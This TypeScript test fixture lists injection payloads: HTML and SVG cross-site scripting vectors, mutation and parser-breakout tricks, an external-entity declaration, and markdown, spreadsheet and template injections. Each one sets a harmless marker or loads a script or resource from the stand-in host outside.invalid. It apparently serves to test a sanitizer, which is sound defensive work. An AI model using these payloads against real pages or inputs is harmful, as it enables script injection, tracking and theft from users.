/**
 * Words that are markup when anything takes them for it. Each would set `window.ran`, or ask OUTSIDE, where
 * it had its way.
 */
export const OUTSIDE = 'https://outside.invalid';

export const HTML: readonly string[] = [
  '<script>window.ran=1</script>',
  '<ScRiPt>window.ran=1</sCrIpT>',
  `<script src="${OUTSIDE}/a.js"></script>`,
  '<script type="module">window.ran=1</script>',
  `<img src=x onerror="window.ran=1">`,
  `<img src="${OUTSIDE}/pixel.png">`,
  `<img srcset="${OUTSIDE}/pixel.png 1x">`,
  `<picture><source srcset="${OUTSIDE}/p.webp"><img></picture>`,
  `<video src="${OUTSIDE}/v.mp4" autoplay onplay=window.ran=1></video>`,
  `<audio src=x onerror=window.ran=1>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<object data="${OUTSIDE}/o"></object><embed src="${OUTSIDE}/e">`,
  `<link rel="stylesheet" href="${OUTSIDE}/s.css">`,
  `<link rel="prefetch" href="${OUTSIDE}/later">`,
  `<style>@import "${OUTSIDE}/i.css"; body { background: url(${OUTSIDE}/b.png) }</style>`,
  `<p style="background:url('${OUTSIDE}/bg.png')">words</p>`,
  `<meta http-equiv="refresh" content="0;url=${OUTSIDE}/gone">`,
  `<base href="${OUTSIDE}/">`,
  `<form action="${OUTSIDE}"><input autofocus onfocus="window.ran=1"></form>`,
  '<details open ontoggle="window.ran=1">words</details>',
  '<body onload="window.ran=1">',
  '<div onpointerover="window.ran=1" onclick="window.ran=1">words</div>',
  '<a href="javascript:window.ran=1">words</a>',
  '<a href="&#106;avascript:window.ran=1">words</a>',
  '<a href="data:text/html,<script>opener.ran=1</script>">words</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=window.ran=1>"></noscript>',
  '<template><img src=x onerror=window.ran=1></template>',
  '<!--><img src=x onerror=window.ran=1>-->',
  '<![CDATA[<img src=x onerror=window.ran=1>]]>',
  '<xmp><img src=x onerror=window.ran=1></xmp>',
  '"><img src=x onerror=window.ran=1>',
  `'><img src=x onerror=window.ran=1>`,
  '</p></li></main><script>window.ran=1</script>',
  '</title></style></textarea><script>window.ran=1</script>',
  '<img/src/onerror=window.ran=1>',
  '<svg/onload=window.ran=1>',
  '&lt;script&gt;window.ran=1&lt;/script&gt;',
];

export const SVG: readonly string[] = [
  '<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran=1"></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><script>window.ran=1</script></svg>',
  `<svg xmlns="http://www.w3.org/2000/svg"><image href="${OUTSIDE}/i.png"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="${OUTSIDE}/u.svg#a"/></svg>`,
  '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="window.ran=1"/></body></foreignObject></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:window.ran=1"><text y="20">words</text></a></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><animate onbegin="window.ran=1" attributeName="x" dur="1s"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="href" to="javascript:window.ran=1"/></svg>',
  `<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(${OUTSIDE}/s.css);</style></svg>`,
  `<?xml version="1.0"?><?xml-stylesheet href="${OUTSIDE}/x.xsl"?><svg xmlns="http://www.w3.org/2000/svg"/>`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "${OUTSIDE}/entity">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><filter id="f"><feImage href="${OUTSIDE}/f.png"/></filter></svg>`,
];

/** Markdown, tables, templates and formulas: markup of other programs. */
export const ELSEWHERE: readonly string[] = [
  `![words](${OUTSIDE}/m.png)`,
  '[words](javascript:window.ran=1)',
  `<${OUTSIDE}/auto>`,
  `[words]: ${OUTSIDE}/reference`,
  '=HYPERLINK("https://outside.invalid","words")',
  '{{constructor.constructor("window.ran=1")()}}',
  '${window.ran=1}',
  '#eval("1") #link("https://outside.invalid")[words]',
];
